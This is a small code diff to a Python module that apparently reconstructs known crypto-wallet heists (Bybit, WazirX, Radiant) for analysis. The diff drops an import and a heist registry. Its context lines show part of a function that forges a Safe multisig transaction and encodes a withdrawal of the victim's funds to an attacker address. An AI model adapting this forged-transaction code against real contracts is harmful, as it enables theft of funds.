@@ -13,7 +13,6 @@ what left the victim's contract and what reached the thief (`reading.ATTACKER`).
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from dataclasses import dataclass
 from typing import Any
 
@@ -169,13 +168,6 @@ def radiant(w3: Any, owner: str, funds: int) -> Heist:
     forged = safe_exec(pool, handover, operation=0)
     take = encode_call("withdraw(address,uint256)", ["address", "uint256"], [ATTACKER, funds])
     return _heist(w3, safe, pool, forged, take, pool=pool)
-
-
-HEISTS: dict[str, Callable[[Any, str, int], Heist]] = {
-    "bybit-2025": bybit,
-    "wazirx-2024": wazirx,
-    "radiant-2024": radiant,
-}
 
 
 def aftermath(w3: Any, heist: Heist) -> Aftermath:
